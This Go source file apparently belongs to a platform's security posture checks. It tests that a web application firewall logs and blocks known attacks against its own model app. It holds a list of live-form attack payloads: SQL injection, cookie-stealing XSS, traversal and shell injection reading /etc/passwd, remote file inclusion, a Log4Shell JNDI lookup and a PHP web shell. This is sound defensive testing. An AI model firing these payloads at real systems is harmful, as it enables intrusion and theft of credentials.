package posture

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"time"

	"github.com/bulwark-paas/bulwark/client"
)

func edg5() Control {
	return Control{ID: "EDG-5", Version: 1, Every: daily,
		Promise: "Known web attacks are filtered: noted for every app, and refused for those whose people say so.",
		Tries:   "Sends attacks of several kinds, in the query, in headers and in bodies, to an app of its own that blocks, and one to the same app as it is by default; sends what is none beside it.",
		Probe:   probeEDG5}
}

// webAttacks are requests as they are found in any log.
func webAttacks() map[string][4]string { // method, path, content type, body
	const form, js = "application/x-www-form-urlencoded", "application/json"
	return map[string][4]string{
		"SQL in the query":          {http.MethodGet, "/?id=1%27%20or%20%271%27=%271%20union%20select%20password%20from%20users--", "", ""},
		"a script in the query":     {http.MethodGet, "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", ""},
		"a path out of the folder":  {http.MethodGet, "/?file=../../../../etc/passwd", "", ""},
		"a command of the shell":    {http.MethodGet, "/?host=127.0.0.1;cat%20/etc/passwd", "", ""},
		"a file inclusion":          {http.MethodGet, "/?page=http://203.0.113.7/shell.txt%3F", "", ""},
		"a script in a form":        {http.MethodPost, "/", form, "name=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
		"SQL in JSON":               {http.MethodPost, "/", js, `{"user":"x' or 1=1 union select password from users--"}`},
		"a lookup of Java's logger": {http.MethodGet, "/?x=$%7Bjndi:ldap://203.0.113.7/a%7D", "", ""},
		"PHP in a form":             {http.MethodPost, "/", form, "x=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E"},
	}
}

func probeEDG5(ctx context.Context, w *World, r *Record) (err error) {
	app, v, err := w.model(ctx)
	if err != nil {
		return err
	}
	if _, err := w.Person.Do(ctx, "shield", app, "waf", "detect"); err != nil {
		return err
	}
	before, err := w.noted(ctx, app)
	if err != nil {
		return err
	}
	all := webAttacks()
	one := all["SQL in the query"]
	a, err := v.ask(ctx, one[0], one[1], one[3])
	if err != nil {
		return err
	}
	r.Proven("the app gets an attack where nobody has it refused", a.status == http.StatusOK, fmt.Sprint(a.status))
	after := before
	for end := time.Now().Add(20 * time.Second); after == before && time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
		if after, err = w.noted(ctx, app); err != nil {
			return err
		}
	}
	r.Refused("attack an app by default without being noted", after > before, fmt.Sprintf("%d, before %d", after, before))
	if _, err := w.Person.Do(ctx, "shield", app, "waf", "block"); err != nil {
		return err
	}
	defer func() {
		_, derr := w.Person.Do(context.WithoutCancel(ctx), "shield", app, "waf", "detect")
		err = errors.Join(err, derr)
	}()
	for name, q := range all {
		header := []string{}
		if q[2] != "" {
			header = append(header, "Content-Type", q[2])
		}
		a, err := v.ask(ctx, q[0], q[1], q[3], header...)
		if err != nil {
			return err
		}
		r.Refused("get "+name+" to an app that blocks", a.status == http.StatusForbidden, fmt.Sprint(a.status))
	}
	for name, q := range map[string][4]string{
		"a search":  {http.MethodGet, "/?q=summer+shoes&page=2", "", ""},
		"a form":    {http.MethodPost, "/", "application/x-www-form-urlencoded", "name=Ana+Example&mail=ana%40example.org&text=I+would+like+to+select+a+gift+from+your+shop."},
		"some JSON": {http.MethodPost, "/", "application/json", `{"items":[{"id":7,"name":"Shoes, brown","price":59.9}],"note":"Please call before you come."}`},
	} {
		header := []string{}
		if q[2] != "" {
			header = append(header, "Content-Type", q[2])
		}
		a, err := v.ask(ctx, q[0], q[1], q[3], header...)
		if err != nil {
			return err
		}
		// The model app answers to GET alone; what it says to others is its own.
		r.Proven(name+" that is no attack gets to an app that blocks", a.status == http.StatusOK || a.status == http.StatusMethodNotAllowed, fmt.Sprint(a.status))
	}
	return nil
}

// noted is how many requests to an app were noted in the last hour.
func (w *World) noted(ctx context.Context, app string) (int, error) {
	out, err := w.Person.Do(ctx, "shield", app, "--json")
	if err != nil {
		return 0, err
	}
	var s client.AppShield
	if err := json.Unmarshal(out, &s); err != nil {
		return 0, err
	}
	n := 0
	for reason, count := range s.Hour.Counts {
		if reason == "waf-noted" {
			n += count
		}
	}
	return n, nil
}
